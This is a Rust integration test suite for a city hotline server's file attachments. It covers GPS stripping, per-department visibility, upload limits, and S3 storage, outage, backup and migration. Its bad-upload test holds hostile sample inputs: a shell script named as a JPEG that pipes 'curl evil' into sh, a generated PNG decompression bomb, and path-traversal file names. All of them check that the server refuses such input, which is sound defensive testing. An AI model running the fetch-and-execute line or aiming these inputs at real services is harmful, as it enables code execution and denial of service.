//! 附件 over HTTP, on SQLite and PostgreSQL: the resident adds a photo on the public form and
//! sees it when tracking; the operator attaches at intake; the lead department proves its
//! work with an on-site photo, which road repairs require before the reply; files are
//! re-encoded (the GPS in a photo never leaves the centre), streamed out with their type,
//! name and caching headers; who may see what follows the ticket's rules; bad input is
//! refused naming the field or the limit and stores nothing. The same on a real S3-protocol
//! server (moto, started by ops/test.sh: HOTLINE_TEST_S3_URL), including an outage.

mod common;

use common::files::{contains, photo_with_gps};
use common::{Backend, TestClock, TestServer};
use hotline::config::Config;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use std::path::{Path, PathBuf};

both_backends!(
    a_resident_photo_reaches_the_department_without_its_gps,
    a_road_repair_reply_needs_an_on_site_photo,
    who_may_see_which_file,
    bad_uploads_are_refused_and_store_nothing,
    limits_are_named_when_broken,
    attachments_on_a_real_s3_server,
    an_s3_outage_fails_the_upload_cleanly_and_it_works_again,
    backup_and_restore_carry_the_files,
    migrate_store_moves_the_files_from_disk_to_s3,
);

/// A PNG that declares a 100000 × 100000 canvas in a few dozen bytes ("zip bomb" image).
fn png_bomb() -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut chunk = |kind: &[u8], data: &[u8]| {
        png.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let mut crc = flate2::Crc::new();
        crc.update(kind);
        crc.update(data);
        png.extend_from_slice(kind);
        png.extend_from_slice(data);
        png.extend_from_slice(&crc.sum().to_be_bytes());
    };
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&100_000u32.to_be_bytes());
    ihdr.extend_from_slice(&100_000u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    chunk(b"IHDR", &ihdr);
    chunk(b"IDAT", &[0x78, 0x9C, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01]);
    chunk(b"IEND", &[]);
    png
}

async fn upload(
    server: &TestServer,
    path: &str,
    token: Option<&str>,
    files: &[(&str, Vec<u8>)],
    fields: &[(&str, &str)],
) -> (StatusCode, Value) {
    let mut form = reqwest::multipart::Form::new();
    for (name, bytes) in files {
        form = form.part("file", reqwest::multipart::Part::bytes(bytes.clone()).file_name(name.to_string()));
    }
    for (k, v) in fields {
        form = form.text(k.to_string(), v.to_string());
    }
    let mut req = reqwest::Client::new().post(format!("{}{path}", server.base)).multipart(form);
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    let resp = req.send().await.expect("upload sent");
    let status = resp.status();
    let text = resp.text().await.unwrap_or_default();
    (status, serde_json::from_str(&text).unwrap_or(Value::String(text)))
}

async fn download(server: &TestServer, path: &str, token: Option<&str>) -> reqwest::Response {
    let mut req = reqwest::Client::new().get(format!("{}{path}", server.base));
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    req.send().await.expect("download sent")
}

/// Every file below `dir` (the local store and its spool).
fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else { return out };
    for e in entries.flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(files_under(&p));
        } else {
            out.push(p);
        }
    }
    out
}

fn store_files(server: &TestServer) -> Vec<PathBuf> {
    let dir = &server.state.config.attachments_dir;
    let mut all = files_under(dir);
    all.extend(files_under(&dir.with_extension("spool")));
    all
}

async fn public_request(server: &TestServer, category: &str) -> String {
    let (status, submitted) = server
        .request(
            Method::POST,
            "/api/v1/public/requests",
            None,
            Some(json!({
                "kind": "complaint",
                "category": category,
                "content": "望海大道人行道砖松动翘起，走路容易绊脚，希望尽快修复。",
                "address": "望海大道88号门口",
                "phone": "13912345678",
                "name": "李先生"
            })),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{submitted}");
    submitted["number"].as_str().unwrap().to_string()
}

/// A ticket with `lead` in charge (dispatched by hand and accepted).
async fn accepted_ticket(server: &TestServer, category: &str, lead: &str, confidential: bool) -> String {
    let operator = server.login("operator").await;
    let t = operator
        .log_call(json!({
            "category": category,
            "confidential": confidential,
            "route": false,
            "content": "望海大道人行道路面塌陷，有一个大坑。"
        }))
        .await;
    let number = t["number"].as_str().unwrap().to_string();
    operator.act(&number, "dispatch", json!({"lead": lead})).await;
    server.login(lead).await.act(&number, "accept", json!({})).await;
    number
}

const ROAD: &str = "01.02.01";

fn lead_department() -> String {
    common::two_bureaus().0
}

async fn a_resident_photo_reaches_the_department_without_its_gps(backend: Backend) {
    let server = TestServer::start_with(backend, TestClock::starting_now(), Config::default()).await;
    let number = public_request(&server, ROAD).await;
    let photo = photo_with_gps(640, 480);
    assert!(contains(&photo, b"SECRET-HOME-ADDRESS"));

    // The resident adds the photo to the request, with the number and the last four digits.
    let path = format!("/api/v1/public/requests/{number}/attachments?phone_last4=5678");
    let (status, added) = upload(&server, &path, None, &[("IMG_0001 门口的坑.jpg", photo.clone())], &[]).await;
    assert_eq!(status, StatusCode::CREATED, "{added}");
    let id = added[0]["id"].as_str().unwrap().to_string();
    assert_eq!(added[0]["content_type"], "image/jpeg");
    assert_eq!(added[0]["purpose"], "public");
    assert!(added[0]["added_by"].is_null(), "a resident sees no staff names: {added}");

    // A wrong last-4 is an unknown request.
    let wrong = format!("/api/v1/public/requests/{number}/attachments?phone_last4=0000");
    let (status, _) = upload(&server, &wrong, None, &[("x.jpg", photo.clone())], &[]).await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // Tracking lists it; the resident downloads it and its thumbnail.
    let (_, tracked) =
        server.request(Method::GET, &format!("/api/v1/public/requests/{number}?phone_last4=5678"), None, None).await;
    assert_eq!(tracked["attachments"][0]["id"], id.as_str(), "{tracked}");
    assert_eq!(tracked["attachments"][0]["has_thumbnail"], true);
    let got =
        download(&server, &format!("/api/v1/public/requests/{number}/attachments/{id}?phone_last4=5678"), None).await;
    assert_eq!(got.status(), StatusCode::OK);
    let wrong_pair =
        download(&server, &format!("/api/v1/public/requests/{number}/attachments/{id}?phone_last4=1111"), None).await;
    assert_eq!(wrong_pair.status(), StatusCode::NOT_FOUND);

    // The ticket's history names the file: who, what, how big, its checksum, where kept.
    let supervisor = server.login("supervisor").await;
    let (_, events) = supervisor.get(&format!("/api/v1/tickets/{number}/events")).await;
    let added_event = events.as_array().unwrap().iter().find(|e| e["type"] == "attachment_added").expect("event");
    assert_eq!(added_event["actor"]["username"], "public-web");
    assert_eq!(added_event["data"]["name"], "IMG_0001 门口的坑.jpg");
    assert_eq!(added_event["data"]["public"], true);
    assert_eq!(added_event["data"]["sha256"].as_str().unwrap().len(), 64);
    assert!(added_event["data"]["storage_key"].as_str().unwrap().starts_with("tickets/"));

    // The department the ticket goes to (by the rules, or by hand from the manual queue)
    // sees the photo, re-encoded: no EXIF, no GPS.
    let (_, ticket) = supervisor.get(&format!("/api/v1/tickets/{number}")).await;
    let lead = match ticket["lead"].as_str() {
        Some(lead) => lead.to_string(),
        None => {
            supervisor.act(&number, "dispatch", json!({"lead": lead_department()})).await;
            lead_department()
        }
    };
    let department = server.login(&lead).await;
    let (status, listed) = department.get(&format!("/api/v1/tickets/{number}/attachments")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(listed[0]["id"], id.as_str());
    let url = listed[0]["url"].as_str().unwrap().to_string();
    let got = download(&server, &url, Some(&department.token)).await;
    assert_eq!(got.status(), StatusCode::OK);
    let headers = got.headers().clone();
    assert_eq!(headers["content-type"], "image/jpeg");
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert!(disposition.contains("filename*=UTF-8''IMG_0001%20%E9%97%A8"), "{disposition}");
    let etag = headers["etag"].to_str().unwrap().to_string();
    assert!(headers["cache-control"].to_str().unwrap().contains("private"));
    let body = got.bytes().await.unwrap();
    assert_eq!(headers["content-length"].to_str().unwrap(), body.len().to_string());
    assert!(!contains(&body, b"SECRET-HOME-ADDRESS"), "the GPS block must not reach the department");
    assert!(!contains(&body, b"Exif\0\0"));
    let decoded = image::load_from_memory(&body).expect("still a picture");
    assert_eq!((decoded.width(), decoded.height()), (640, 480));
    use sha2::Digest;
    assert_eq!(etag, format!("\"{}\"", hex::encode(sha2::Sha256::digest(&body[..]))));
    // A browser that has it is told so.
    let again = reqwest::Client::new()
        .get(format!("{}{url}", server.base))
        .bearer_auth(&department.token)
        .header("if-none-match", &etag)
        .send()
        .await
        .unwrap();
    assert_eq!(again.status(), StatusCode::NOT_MODIFIED);
    let thumb = download(&server, listed[0]["thumbnail_url"].as_str().unwrap(), Some(&department.token)).await;
    assert_eq!(thumb.status(), StatusCode::OK);
    let thumb = image::load_from_memory(&thumb.bytes().await.unwrap()).unwrap();
    assert!(thumb.width() <= 320 && thumb.height() <= 320);
    server.stop().await;
}

async fn a_road_repair_reply_needs_an_on_site_photo(backend: Backend) {
    let server = TestServer::start(backend).await;
    let lead = lead_department();
    let number = accepted_ticket(&server, ROAD, &lead, false).await;
    let department = server.login(&lead).await;
    let reply = json!({"outcome": "solved", "text": "已修补路面坑洞。"});
    let (status, refused) = department.post(&format!("/api/v1/tickets/{number}/reply"), reply.clone()).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{refused}");
    assert_eq!(refused["field"], "attachments");
    assert!(refused["message"].as_str().unwrap().contains("现场照片"), "{refused}");

    // A PDF is not a photo.
    let pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n".to_vec();
    let path = format!("/api/v1/tickets/{number}/attachments");
    let (status, added) = upload(&server, &path, Some(&department.token), &[("验收单.pdf", pdf)], &[]).await;
    assert_eq!(status, StatusCode::CREATED, "{added}");
    assert_eq!((added[0]["class"].as_str(), added[0]["purpose"].as_str()), (Some("pdf"), Some("reply")));
    let (status, _) = department.post(&format!("/api/v1/tickets/{number}/reply"), reply.clone()).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);

    let (status, added) = upload(
        &server,
        &path,
        Some(&department.token),
        &[("修补后.jpg", photo_with_gps(320, 240))],
        &[("purpose", "reply"), ("public", "true")],
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{added}");
    assert_eq!(added[0]["department"], lead.as_str());
    department.act(&number, "reply", reply).await;
    server.stop().await;
}

async fn who_may_see_which_file(backend: Backend) {
    let server = TestServer::start(backend).await;
    let (lead, other) = common::two_bureaus();
    // A confidential caller's ticket: what the operator takes in from the caller stays at
    // the centre; what the department adds is the department's.
    let number = accepted_ticket(&server, "01.01.01", &lead, true).await;
    let operator = server.login("operator").await;
    let path = format!("/api/v1/tickets/{number}/attachments");
    let (status, intake) = upload(
        &server,
        &path,
        Some(&operator.token),
        &[("来电人材料.pdf", b"%PDF-1.4\n%%EOF\n".to_vec())],
        &[("purpose", "intake")],
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{intake}");
    let caller_file = intake[0]["id"].as_str().unwrap().to_string();
    let department = server.login(&lead).await;
    let (status, own) =
        upload(&server, &path, Some(&department.token), &[("现场.png", png_photo())], &[("purpose", "return")]).await;
    assert_eq!(status, StatusCode::CREATED, "{own}");

    let (_, seen) = department.get(&path).await;
    let ids: Vec<&str> = seen.as_array().unwrap().iter().map(|a| a["id"].as_str().unwrap()).collect();
    assert_eq!(ids, [own[0]["id"].as_str().unwrap()], "the confidential caller's file is not listed");
    let (_, ticket) = department.get(&format!("/api/v1/tickets/{number}")).await;
    assert_eq!(ticket["attachments"].as_array().unwrap().len(), 1, "nor shown with the ticket");
    let hidden = download(&server, &format!("{path}/{caller_file}"), Some(&department.token)).await;
    assert_eq!(hidden.status(), StatusCode::NOT_FOUND);
    let (_, all) = operator.get(&path).await;
    assert_eq!(all.as_array().unwrap().len(), 2, "the centre sees both");

    // Another department: the ticket does not exist for it, files included.
    let stranger = server.login(&other).await;
    let (status, _) = stranger.get(&path).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, _) = upload(&server, &path, Some(&stranger.token), &[("x.png", png_photo())], &[]).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let got = download(&server, &format!("{path}/{}", own[0]["id"].as_str().unwrap()), Some(&stranger.token)).await;
    assert_eq!(got.status(), StatusCode::NOT_FOUND);
    // Nobody without a login.
    let (status, _) = upload(&server, &path, None, &[("x.png", png_photo())], &[]).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    // A department may not file centre material.
    let (status, refused) =
        upload(&server, &path, Some(&department.token), &[("x.png", png_photo())], &[("purpose", "intake")]).await;
    assert_eq!((status, refused["field"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("purpose")), "{refused}");
    server.stop().await;
}

fn png_photo() -> Vec<u8> {
    let img = image::RgbaImage::from_fn(64, 48, |x, y| image::Rgba([x as u8 * 4, y as u8 * 5, 200, 255]));
    let mut out = std::io::Cursor::new(Vec::new());
    img.write_to(&mut out, image::ImageFormat::Png).unwrap();
    out.into_inner()
}

async fn attachment_count(server: &TestServer, number: &str) -> usize {
    let (_, list) = server.login("supervisor").await.get(&format!("/api/v1/tickets/{number}/attachments")).await;
    list.as_array().unwrap().len()
}

async fn bad_uploads_are_refused_and_store_nothing(backend: Backend) {
    let server = TestServer::start(backend).await;
    let operator = server.login("operator").await;
    let t = operator.log_call(json!({})).await;
    let number = t["number"].as_str().unwrap().to_string();
    let path = format!("/api/v1/tickets/{number}/attachments");

    // A script that says it is a photo.
    let (status, refused) =
        upload(&server, &path, Some(&operator.token), &[("photo.jpg", b"#!/bin/sh\ncurl evil | sh\n".to_vec())], &[])
            .await;
    assert_eq!((status, refused["field"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("file")), "{refused}");
    // An image that declares a 100000 × 100000 canvas is refused before it is decoded.
    let (status, refused) = upload(&server, &path, Some(&operator.token), &[("bomb.png", png_bomb())], &[]).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{refused}");
    assert!(refused["message"].as_str().unwrap().contains("attachment_max_image_pixels"), "{refused}");
    // A PNG cut off after its header is not a picture.
    let png = png_photo();
    let (status, refused) =
        upload(&server, &path, Some(&operator.token), &[("half.png", png[..40].to_vec())], &[]).await;
    assert_eq!((status, refused["field"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("file")), "{refused}");
    // A body cut off mid-file: the multipart never ends.
    let body = b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xFF\xD8\xFF\xE0 cut here".to_vec();
    let (status, refused) =
        server.raw(Method::POST, &path, Some(&operator.token), "multipart/form-data; boundary=XyZ", body).await;
    assert_eq!((status, refused["field"].as_str()), (StatusCode::BAD_REQUEST, Some("file")), "{refused}");
    // Not multipart at all.
    let (status, _) = operator.post(&path, json!({"file": "aGVsbG8="})).await;
    assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
    // An unknown purpose.
    let (status, refused) =
        upload(&server, &path, Some(&operator.token), &[("a.png", png_photo())], &[("purpose", "../../x")]).await;
    assert_eq!((status, refused["field"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("purpose")));
    assert_eq!(attachment_count(&server, &number).await, 0);
    assert!(store_files(&server).is_empty(), "nothing stored, nothing left in the spool: {:?}", store_files(&server));

    // A name with ../ is only a name: shown without the path, stored under a generated key.
    let (status, added) =
        upload(&server, &path, Some(&operator.token), &[("../../../../tmp/evil.png", png_photo())], &[]).await;
    assert_eq!(status, StatusCode::CREATED, "{added}");
    assert_eq!(added[0]["name"], "evil.png");
    let stored = store_files(&server);
    assert_eq!(stored.len(), 2, "the file and its thumbnail: {stored:?}");
    let root = server.state.config.attachments_dir.canonicalize().unwrap();
    for f in &stored {
        assert!(f.canonicalize().unwrap().starts_with(&root), "{f:?} outside {root:?}");
        assert!(!f.to_string_lossy().contains("evil"), "{f:?}");
    }
    server.stop().await;
}

async fn limits_are_named_when_broken(backend: Backend) {
    let config = Config {
        attachment_max_bytes: 64 * 1024,
        attachments_request_max_bytes: 100 * 1024,
        attachments_per_ticket: 3,
        ..Config::default()
    };
    let server = TestServer::start_with(backend, TestClock::starting_now(), config).await;
    let operator = server.login("operator").await;
    let t = operator.log_call(json!({})).await;
    let number = t["number"].as_str().unwrap().to_string();
    let path = format!("/api/v1/tickets/{number}/attachments");
    let mut big = b"%PDF-1.4\n".to_vec();
    big.resize(70 * 1024, b' ');
    let (status, refused) = upload(&server, &path, Some(&operator.token), &[("大文件.pdf", big)], &[]).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{refused}");
    assert!(refused["message"].as_str().unwrap().contains("attachment_max_bytes"), "{refused}");
    let mut part = b"%PDF-1.4\n".to_vec();
    part.resize(60 * 1024, b' ');
    let (status, refused) =
        upload(&server, &path, Some(&operator.token), &[("a.pdf", part.clone()), ("b.pdf", part.clone())], &[]).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{refused}");
    assert!(refused["message"].as_str().unwrap().contains("attachments_request_max_bytes"), "{refused}");
    let small = b"%PDF-1.4\n%%EOF\n".to_vec();
    let four: Vec<(&str, Vec<u8>)> = (0..4).map(|_| ("s.pdf", small.clone())).collect();
    let (status, refused) = upload(&server, &path, Some(&operator.token), &four, &[]).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{refused}");
    assert!(refused["message"].as_str().unwrap().contains("attachments_per_ticket"), "{refused}");
    assert_eq!(attachment_count(&server, &number).await, 0);
    let (status, _) = upload(&server, &path, Some(&operator.token), &four[..3], &[]).await;
    assert_eq!(status, StatusCode::CREATED);
    let (status, _) = upload(&server, &path, Some(&operator.token), &four[..1], &[]).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(store_files(&server).len(), 3, "{:?}", store_files(&server));
    server.stop().await;
}

// ---- S3 (a real S3-protocol server: moto) ----------------------------------------------------

/// The S3 server of the run (`ops/test.sh` starts moto and sets HOTLINE_TEST_S3_URL).
fn shared_s3() -> Option<String> {
    std::env::var("HOTLINE_TEST_S3_URL").ok().filter(|u| !u.is_empty())
}

fn s3_config(url: &str, bucket: &str) -> Config {
    Config {
        s3_endpoint: Some(url.to_string()),
        s3_bucket: Some(bucket.to_string()),
        s3_access_key_id: Some("testing".into()),
        s3_secret_access_key: Some("testing".into()),
        s3_allow_http: true,
        ..Config::default()
    }
}

/// A bucket of the test's own (moto takes an unsigned CreateBucket).
async fn create_bucket(url: &str) -> String {
    let bucket = format!("hotline-{}", &hotline::attachments::random_id()[..12]);
    let resp = reqwest::Client::new().put(format!("{url}/{bucket}")).send().await.expect("create bucket");
    assert!(resp.status().is_success(), "create bucket: {}", resp.status());
    bucket
}

async fn attachments_on_a_real_s3_server(backend: Backend) {
    let Some(url) = shared_s3() else {
        println!("SKIPPED: no S3 server (HOTLINE_TEST_S3_URL; ops/test.sh starts moto)");
        return;
    };
    let bucket = create_bucket(&url).await;
    let server = TestServer::start_with(backend, TestClock::starting_now(), s3_config(&url, &bucket)).await;
    let number = public_request(&server, "01.01.01").await;
    let photo = photo_with_gps(800, 600);
    let path = format!("/api/v1/public/requests/{number}/attachments?phone_last4=5678");
    let (status, added) = upload(&server, &path, None, &[("门口.jpg", photo)], &[]).await;
    assert_eq!(status, StatusCode::CREATED, "{added}");
    assert!(store_files(&server).is_empty(), "nothing on the local disk: {:?}", store_files(&server));
    // The object is in the bucket, under its generated key.
    let supervisor = server.login("supervisor").await;
    let (_, events) = supervisor.get(&format!("/api/v1/tickets/{number}/events")).await;
    let key = events.as_array().unwrap().iter().find(|e| e["type"] == "attachment_added").unwrap()["data"]
        ["storage_key"]
        .as_str()
        .unwrap()
        .to_string();
    let listed = server.state.blobs().list().await.expect("list the bucket");
    assert!(listed.iter().any(|(k, _, _)| *k == key), "{key} not in the bucket: {listed:?}");
    let in_bucket = server.state.blobs().get(&key).await.unwrap().bytes().await.unwrap();
    let got = download(&server, added[0]["url"].as_str().unwrap(), None).await;
    assert_eq!(got.status(), StatusCode::OK);
    assert_eq!(got.bytes().await.unwrap(), in_bucket);
    assert!(!contains(&in_bucket, b"SECRET-HOME-ADDRESS"));
    server.stop().await;
}

/// A moto server of this test's own, to stop and start again.
struct Moto {
    child: std::process::Child,
    port: u16,
}

impl Moto {
    fn start(port: u16) -> Option<Moto> {
        let bin = std::env::var("HOTLINE_TEST_MOTO_BIN").unwrap_or_else(|_| "moto_server".into());
        let child = std::process::Command::new(bin)
            .args(["-H", "127.0.0.1", "-p", &port.to_string()])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .ok()?;
        let moto = Moto { child, port };
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        while std::time::Instant::now() < deadline {
            if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
                return Some(moto);
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        None
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn stop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Drop for Moto {
    fn drop(&mut self) {
        self.stop();
    }
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

async fn an_s3_outage_fails_the_upload_cleanly_and_it_works_again(backend: Backend) {
    if shared_s3().is_none() {
        println!("SKIPPED: no S3 server (HOTLINE_TEST_S3_URL; ops/test.sh starts moto)");
        return;
    }
    let port = free_port();
    let Some(mut moto) = Moto::start(port) else {
        println!("SKIPPED: moto_server could not be started (HOTLINE_TEST_MOTO_BIN)");
        return;
    };
    let bucket = create_bucket(&moto.url()).await;
    let server = TestServer::start_with(backend, TestClock::starting_now(), s3_config(&moto.url(), &bucket)).await;
    let operator = server.login("operator").await;
    let t = operator.log_call(json!({})).await;
    let number = t["number"].as_str().unwrap().to_string();
    let path = format!("/api/v1/tickets/{number}/attachments");
    let (status, _) = upload(&server, &path, Some(&operator.token), &[("a.png", png_photo())], &[]).await;
    assert_eq!(status, StatusCode::CREATED);

    moto.stop();
    let (status, refused) = upload(&server, &path, Some(&operator.token), &[("b.png", png_photo())], &[]).await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{refused}");
    assert!(refused["message"].as_str().unwrap().contains("附件存储暂时不可用"), "{refused}");
    assert_eq!(attachment_count(&server, &number).await, 1, "no event names a file that was not stored");
    let (_, events) = operator.get(&format!("/api/v1/tickets/{number}/events")).await;
    assert_eq!(events.as_array().unwrap().iter().filter(|e| e["type"] == "attachment_added").count(), 1);
    assert!(store_files(&server).is_empty(), "the spool is emptied: {:?}", store_files(&server));

    // Back again (moto forgets everything: the bucket is made anew).
    let moto = Moto::start(port).expect("moto restarts");
    let resp = reqwest::Client::new().put(format!("{}/{bucket}", moto.url())).send().await.unwrap();
    assert!(resp.status().is_success());
    let (status, added) = upload(&server, &path, Some(&operator.token), &[("c.png", png_photo())], &[]).await;
    assert_eq!(status, StatusCode::CREATED, "{added}");
    let got = download(&server, added[0]["url"].as_str().unwrap(), Some(&operator.token)).await;
    assert_eq!(got.status(), StatusCode::OK);
    assert_eq!(attachment_count(&server, &number).await, 2);
    server.stop().await;
}

/// A ticket the operator logged with a scanned letter and a photo: the ticket.
async fn ticket_with_a_letter_and_a_photo(server: &TestServer) -> Value {
    let operator = server.login("operator").await;
    let t = operator.log_call(json!({})).await;
    let number = t["number"].as_str().unwrap().to_string();
    let path = format!("/api/v1/tickets/{number}/attachments");
    let pdf = b"%PDF-1.4\n% a scanned letter\n%%EOF\n".to_vec();
    let (status, added) =
        upload(server, &path, Some(&operator.token), &[("来信.pdf", pdf), ("现场.png", png_photo())], &[]).await;
    assert_eq!(status, StatusCode::CREATED, "{added}");
    t
}

async fn backup_and_restore_carry_the_files(backend: Backend) {
    let server = TestServer::start(backend).await;
    let t = ticket_with_a_letter_and_a_photo(&server).await;

    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("hotline.backup");
    hotline::backup::backup_with_files(&server.store, Some(server.state.blobs()), &file).await.expect("backup");

    // Restored elsewhere: another database and another folder.
    let (url, _db_dir) = common::fresh_database(backend).await;
    let target = hotline::store::Store::connect(&url, 2, hotline::store::system_clock()).await.unwrap();
    let restored_dir = dir.path().join("restored");
    let config = Config { attachments_dir: restored_dir.clone(), ..Config::default() };
    let blobs = hotline::attachments::Blobs::from_config(&config).unwrap();
    hotline::backup::restore_with_files(&target, Some(&blobs), &file).await.expect("restore");
    let keys = target.all_attachment_keys().await.unwrap();
    assert_eq!(keys.len(), 3, "two files and the photo's thumbnail: {keys:?}");
    for key in &keys {
        let original = server.state.blobs().get(key).await.unwrap().bytes().await.unwrap();
        let copy = blobs.get(key).await.unwrap().bytes().await.unwrap();
        assert_eq!(original, copy, "{key}");
    }
    let ticket = target.ticket(t["id"].as_i64().unwrap()).await.unwrap().unwrap();
    assert_eq!(ticket.attachments.len(), 2);
    assert_eq!(ticket.attachments[0].name, "来信.pdf");
    target.close().await;
    server.stop().await;
}

async fn migrate_store_moves_the_files_from_disk_to_s3(backend: Backend) {
    let Some(s3) = shared_s3() else {
        println!("SKIPPED: no S3 server (HOTLINE_TEST_S3_URL; ops/test.sh starts moto)");
        return;
    };
    // A district on the local disk with a letter and a photo (and the photo's thumbnail).
    let server = TestServer::start(backend).await;
    let t = ticket_with_a_letter_and_a_photo(&server).await;
    let number = t["number"].as_str().unwrap().to_string();
    let keys = server.store.all_attachment_keys().await.unwrap();
    assert_eq!(keys.len(), 3, "{keys:?}");

    // Moving to another database and an S3 bucket: every file goes across, checked.
    let bucket = create_bucket(&s3).await;
    let target_config = s3_config(&s3, &bucket);
    let bucket_files = hotline::attachments::Blobs::from_config(&target_config).unwrap();
    let (url, _db_dir) = common::fresh_database(backend).await;
    let target = hotline::store::Store::connect(&url, 2, hotline::store::system_clock()).await.unwrap();
    let (rows, files) =
        hotline::backup::migrate_store_with_files(&server.store, &target, Some((server.state.blobs(), &bucket_files)))
            .await
            .expect("migrate-store");
    assert_eq!(rows.written.0["attachments"], 2, "{rows}");
    let files = files.expect("the files were copied");
    assert_eq!(files.objects, 3);
    let mut bytes = 0;
    for key in &keys {
        let original = server.state.blobs().get(key).await.unwrap().bytes().await.unwrap();
        let copy = bucket_files.get(key).await.unwrap().bytes().await.unwrap();
        assert_eq!(original, copy, "{key}");
        bytes += copy.len() as u64;
    }
    assert_eq!(files.bytes, bytes);
    target.close().await;

    // The new installation serves them from the bucket.
    let moved = TestServer::start_on(backend, url, None, TestClock::starting_now(), target_config.clone(), false).await;
    assert!(store_files(&moved).is_empty(), "nothing on the new server's disk");
    let operator = moved.login("operator").await;
    let (_, listed) = operator.get(&format!("/api/v1/tickets/{number}/attachments")).await;
    let got = download(&moved, listed[1]["url"].as_str().unwrap(), Some(&operator.token)).await;
    assert_eq!(got.status(), StatusCode::OK);
    assert_eq!(got.bytes().await.unwrap(), server.state.blobs().get(&keys[1]).await.unwrap().bytes().await.unwrap());
    moved.stop().await;

    // The same with the command: the files are read from the store this configuration names
    // and go to the one the new installation's file names; the counts are printed.
    let dir = tempfile::tempdir().unwrap();
    let new_config = dir.path().join("new.toml");
    let second_bucket = create_bucket(&s3).await;
    std::fs::write(
        &new_config,
        format!(
            "s3_endpoint = \"{s3}\"\ns3_bucket = \"{second_bucket}\"\ns3_allow_http = true\n\
             s3_access_key_id = \"testing\"\ns3_secret_access_key = \"testing\"\n"
        ),
    )
    .unwrap();
    let (url, _db_dir) = common::fresh_database(backend).await;
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_hotline"));
    command.current_dir(env!("CARGO_MANIFEST_DIR"));
    for (_, var) in hotline::config::ENV_KEYS {
        command.env_remove(var);
    }
    let out = command
        .env_remove("HOTLINE_CONFIG")
        .env("HOTLINE_ATTACHMENTS_DIR", &server.state.config.attachments_dir)
        .args(["migrate-store", "--from", &server.state.config.database_url, "--to", &url, "--files-to"])
        .arg(&new_config)
        .output()
        .unwrap();
    let printed = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{printed}{}", String::from_utf8_lossy(&out.stderr));
    assert!(printed.contains(&format!("copied 3 attachment objects, {bytes} bytes")), "{printed}");
    assert!(printed.contains(&format!("s3://{second_bucket}")) && printed.contains("checksum verified"), "{printed}");

    // A file damaged on the old disk is found out: nothing is committed, the key is named.
    let damaged = server.state.config.attachments_dir.join(&keys[0]);
    std::fs::write(&damaged, b"%PDF-1.4 not the letter that was stored").unwrap();
    let (url, _db_dir) = common::fresh_database(backend).await;
    let target = hotline::store::Store::connect(&url, 2, hotline::store::system_clock()).await.unwrap();
    let refused =
        hotline::backup::migrate_store_with_files(&server.store, &target, Some((server.state.blobs(), &bucket_files)))
            .await
            .expect_err("a damaged file stops the move");
    let message = refused.to_string();
    assert!(message.contains(&keys[0]) && message.contains("SHA-256"), "{message}");
    assert!(target.ticket(t["id"].as_i64().unwrap()).await.unwrap().is_none(), "no rows committed");
    target.close().await;
    server.stop().await;
}
